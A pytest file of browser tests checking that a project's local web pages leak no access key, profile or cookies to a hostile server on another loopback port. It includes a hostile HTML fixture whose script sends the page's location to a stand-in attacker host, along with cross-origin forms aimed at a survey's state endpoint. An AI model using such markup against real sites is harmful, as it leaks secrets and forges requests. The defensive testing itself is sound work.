"""Two ports of the loopback address in a real browser: a page of ours, and a hostile server that wants its key."""

import json

import pytest
from playwright.sync_api import expect
from tests.collect.health_survey import TEXT, scheme_for
from tests.collector import Collector, ask
from tests.search.page_server import search_page, serving
from tests.studio.opened import folder_of_people, open_studio
from tests.web.hostile import hostile_server

from confide.core.samples import documents
from confide.search import Profile, Wrapper
from confide.search.page.session import Session
from confide.stream.live.hub import Hub
from confide.stream.live.live_pages import serve_owner
from confide.web.guard import Guard
from confide.web.serving import listen, url_of

pytestmark = pytest.mark.browser

PATHS = ["", "api/about", "search.js"]
SECRETS = ("interests", "expRatio", "rare patterns", "3127")


class Asking:
    """An engine whose address is known only later."""

    name = "engine"

    def search(self, query, *, count=50):
        return Wrapper(self.address).engine.search(query, count=count)


def check_nothing_was_learned(hostile, key):
    assert hostile.reports
    for text in hostile.seen:
        assert key not in text
    for report in hostile.reports:
        assert report["cookie"] == ""
        assert report["referrer"] in ("", hostile.address)
        assert report["opener"] == "none"
        assert "events" not in report
        assert not [name for name, text in report.items() if any(secret in text for secret in (*SECRETS, key))]
        read = {name: text for name, text in report.items() if name.partition(" ")[0] in ("fetch", "frame", "opened")}
        assert all(text in ("", "refused") for text in read.values()), read
        loaded = [name for name, text in report.items() if text == "loaded"]
        assert not loaded


def attack(page, hostile):
    """Have the hostile page try everything; returns when it has reported."""
    before = len(hostile.reports)
    page.goto(hostile.address)
    expect(page).to_have_title("done")
    assert len(hostile.reports) == before + 1


def test_a_server_on_another_port_gets_neither_the_key_nor_the_profile(browser):
    asking = Asking()
    session = Session(Profile.build(documents(300, seed=3)), Wrapper(asking))
    with search_page(session) as guard, hostile_server(guard.url, PATHS) as hostile:
        asking.address = hostile.address
        context = browser.new_context()
        page = context.new_page()
        attack(page, hostile)  # before the page was ever opened
        page.goto(guard.entrance)
        expect(page.locator("#ratio")).not_to_have_text("-")
        attack(context.new_page(), hostile)  # while it is open in another tab
        page.fill("#query", "evening")
        page.press("#query", "Enter")
        expect(page.locator("#own-order .result")).to_have_count(3)
        with context.expect_page() as beside:
            page.locator("#own-order a").first.click(modifiers=["Control"])
        expect(beside.value).to_have_title("done")
        page.locator("#own-order a").first.click()  # a result leads there, in the same tab
        expect(page).to_have_title("done")
        page.go_back()
        expect(page.locator("#ratio")).not_to_have_text("-")
        with context.expect_page() as opened:
            page.evaluate("address => { window.open(address) }", hostile.address)  # ours as the opener
        expect(opened.value).to_have_title("done")
        attack(page, hostile)  # from the tab in which it was
        assert len(hostile.reports) == 6
        check_nothing_was_learned(hostile, guard.key)
        assert context.cookies() == []
        context.close()


def test_the_owner_s_page_of_a_stream_gives_nothing_to_another_port(browser):
    hub = Hub()
    hub.add(1, {"release": 1, "raw": 3127, "error": 1, "needed": 1, "frequent": 1, "published": 1, "patterns": []})
    server = serve_owner(hub)
    base, key = server.url.rstrip("/").rpartition("/")[::2]
    try:
        with hostile_server(f"{base}/", PATHS) as hostile:
            context = browser.new_context()
            page = context.new_page()
            page.goto(server.url)
            expect(page.locator("#raw")).to_have_text("3,127")
            attack(context.new_page(), hostile)
            attack(page, hostile)
            check_nothing_was_learned(hostile, key)
            assert context.cookies() == []
            context.close()
    finally:
        hub.over = True
        server.close()


def test_the_team_s_page_of_a_survey_gives_nothing_to_another_port_nor_does_the_form_lead_there(browser, tmp_path):
    (tmp_path / "survey.toml").write_text(TEXT)
    given = ("--form", str(tmp_path / "survey.toml"), "--team-key", str(tmp_path / "team.key"), "--within", "2")
    scheme = scheme_for(1000)
    with Collector(tmp_path, scheme, str(tmp_path / "a.duckdb"), *given) as collector:
        key = (tmp_path / "team.key").read_text().strip()
        team = f"{collector.url}{key}/"
        for page in ("", "form?lang=en", "form?lang=de", "confide.js", "scheme.json", "promise.json"):
            assert key not in json.dumps(ask(collector.url + page)[1]), "people who answer never see it"
        with hostile_server(collector.url, ["team", "progress.json", "results", "answers.zip", "state"]) as hostile:
            context = browser.new_context()
            page = context.new_page()
            page.goto(team)
            expect(page.locator("h1")).to_have_text("How the survey is going")
            attack(context.new_page(), hostile)
            attack(page, hostile)
            page.goto(team + "results")
            with context.expect_page() as opened:
                page.evaluate("address => { window.open(address) }", hostile.address)
            expect(opened.value).to_have_title("done")
            page.goto(team)
            page.click("text=/form$/")  # what people see, from the team's page: the key does not go along
            page.wait_for_selector("#send:not([disabled])")
            assert key not in page.evaluate("document.referrer + document.body.innerText")
            # a page of another origin that knew the key could still not press a button
            page.goto(hostile.address)
            page.set_content(
                f"<form method=post action='{team}state'><input name=state value=closed><button>x</button></form>"
            )
            page.click("button")
            expect(page.locator("body")).to_contain_text("Nothing is here")
            assert ask(team + "progress.json")[1]["state"] == "open"
            assert len(hostile.reports) >= 3
            assert all(key not in text for text in hostile.seen)
            for report in hostile.reports:
                assert report["referrer"] in ("", hostile.address)
                assert not any(key in text or "survey is" in text for text in report.values())
            assert context.cookies() == []
            context.close()


STRANGER = """<!doctype html><title>stranger</title><meta name="referrer" content="unsafe-url">
<meta http-equiv="refresh" content="0;url=EVIL?refreshed"><link rel="stylesheet" href="EVIL?style">
<link rel="prefetch" href="EVIL?prefetched"><img src="EVIL?image" referrerpolicy="unsafe-url">
<iframe src="EVIL?frame" referrerpolicy="unsafe-url"></iframe><object data="EVIL?object"></object>
<style>p { background: url("EVIL?background") } @import "EVIL?import";</style><p>words</p>
<a href="EVIL?clicked" referrerpolicy="unsafe-url">plain</a>
<a href="EVIL?top" target="_top" referrerpolicy="unsafe-url">top</a>
<a href="EVIL?blank" target="_blank" rel="opener" referrerpolicy="unsafe-url">blank</a>
<form action="EVIL?sent" method="post"><button>send</button></form>
<script>location = "EVIL?script" + encodeURIComponent(location)</script>"""


def test_the_studio_gives_nothing_to_another_port_nor_to_a_report_that_a_stranger_wrote(browser, tmp_path):
    folder_of_people(tmp_path, 40)
    with open_studio(tmp_path) as opened:
        key = opened.guard.key
        with hostile_server(opened.guard.url, ["", "columns?table=people.csv", "download?name=people.csv"]) as hostile:
            (tmp_path / "report.html").write_text(STRANGER.replace("EVIL", hostile.address))
            context = browser.new_context()
            page = context.new_page()
            page.goto(opened.url)
            attack(context.new_page(), hostile)
            attack(page, hostile)
            check_nothing_was_learned(hostile, key)
            for address in ("file?name=report.html", "report?name=report.html"):
                for link in ("plain", "top", "blank", "send"):
                    page.goto(opened.url + address)
                    inside = page.frame_locator("iframe.report") if address.startswith("file") else page
                    if inside.locator("p").count():
                        inside.get_by_text(link, exact=True).click(no_wait_after=True)
                    page.wait_for_timeout(300)  # whatever it does by itself
            assert any("?clicked" in text for text in hostile.seen), "a link that somebody follows leads there"
            assert all(key not in text for text in hostile.seen)
            assert context.cookies() == []
            context.close()


def test_forms_work_without_scripts_and_only_from_the_page_itself(browser):
    """A page with a plain form, as surveys have it, kept by the same module."""
    starlette = pytest.importorskip("starlette.applications")
    from starlette.responses import HTMLResponse
    from starlette.routing import Route

    saved = []

    async def show(request):
        form = "<form method=post action=save><input name=answer><button>Save</button></form><a href=.>again</a>"
        return HTMLResponse(f"<title>ours</title>{form}<iframe name=x></iframe>")

    async def save(request):
        saved.append((await request.body()).decode())
        return HTMLResponse("<title>saved</title>")

    app = starlette.Starlette(routes=[Route("/", show), Route("/save", save, methods=["POST"])])
    listening = listen("127.0.0.1", 0)
    guard = Guard(url_of(listening, tls=False))
    with serving((guard.protect(app), listening)):
        context = browser.new_context(java_script_enabled=False)
        page = context.new_page()
        page.goto(guard.entrance)
        page.click("a")
        page.fill("input", "plain")
        page.click("button")
        expect(page).to_have_title("saved")
        assert saved == ["answer=plain"]
        # even an attacker who knew the key could not send a form from another origin
        page.goto("data:text/html," + f"<form method=post action='{guard.entrance}save'><button>x</button></form>")
        page.click("button")
        expect(page.locator("body")).to_contain_text("Nothing is here")
        assert saved == ["answer=plain"]
        context.close()
